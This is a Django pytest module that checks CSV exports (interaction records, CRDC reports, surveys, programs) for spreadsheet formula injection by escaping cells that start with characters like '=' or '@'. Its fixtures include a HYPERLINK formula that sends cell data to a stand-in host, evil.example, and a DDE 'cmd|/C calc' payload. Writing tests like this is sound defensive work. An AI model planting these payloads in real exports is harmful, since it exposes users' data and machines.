"""Every CSV export goes through one writer, and no cell in it can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from liaison.directory.models import School
from liaison.interactions import services as interaction_services
from liaison.lib.csv_export import csv_dict_writer, csv_writer, neutralise

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
# Files that write CSV for another reason than an export: the demo writes a file to import.
NOT_EXPORTS = {"interactions/demo.py", "lib/csv_export.py"}


def test_no_module_writes_csv_except_through_the_one_writer():
    offenders = [
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if "tests" not in path.parts
        and str(path.relative_to(ROOT)) not in NOT_EXPORTS
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert offenders == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    assert neutralise(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


@pytest.mark.parametrize("number", ["-3", "+1.5", "0", "-0.25"])
def test_a_plain_number_stays_a_number(number):
    assert neutralise(number) == number


def test_the_writers_neutralise_rows_and_dicts():
    out = io.StringIO()
    csv_writer(out).writerow([HOSTILE, 3, None])
    writer = csv_dict_writer(out, ["a"])
    writer.writerow({"a": "@SUM(1)"})
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'" + HOSTILE, "3", ""], ["'@SUM(1)"]]


@pytest.fixture
def hostile_school(world):
    School.objects.filter(pk=world.elementary.pk).update(name=HOSTILE)
    world.elementary.refresh_from_db()
    return world.elementary


def _cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]


def _assert_neutralised(cells: list[str]) -> None:
    assert "'" + HOSTILE in cells
    assert HOSTILE not in cells


def test_the_records_export_neutralises_a_school_name(world, page_as, hostile_school):
    interaction_services.interaction_record(
        actor=world.officer.user,
        officer=world.officer,
        school=hostile_school,
        kind="positive",
        occurred_at=timezone.now() - datetime.timedelta(hours=1),
    )
    _assert_neutralised(_cells(page_as("district_admin").get(reverse("interactions:export"))))


def test_the_crdc_and_equity_csvs_neutralise_a_school_name(world, page_as, hostile_school):
    year = "2025-2026"
    crdc = page_as("district_admin").get(
        reverse("insights:crdc", args=[world.district.uuid]), {"school_year": year, "format": "csv"}
    )
    _assert_neutralised(_cells(crdc))


def test_the_survey_exports_neutralise_a_school_name(world, page_as, hostile_school):
    from liaison.surveys.tests.surveys import close, link, respond, student_wave

    wave = student_wave(world)
    respond(link(wave, hostile_school), 10)
    wave = close(world, wave)  # results exist only once a wave has closed
    client = page_as("district_admin")
    _assert_neutralised(_cells(client.get(reverse("surveys:results_csv", args=[wave.uuid]))))
    _assert_neutralised(_cells(client.get(reverse("surveys:responses_csv", args=[wave.uuid]))))


def test_the_programs_exports_neutralise_a_school_name(world, page_as, hostile_school):
    response = page_as("district_admin").get(reverse("programs:presence"), {"format": "csv"})
    assert response.status_code == 200
    assert HOSTILE not in _cells(response)
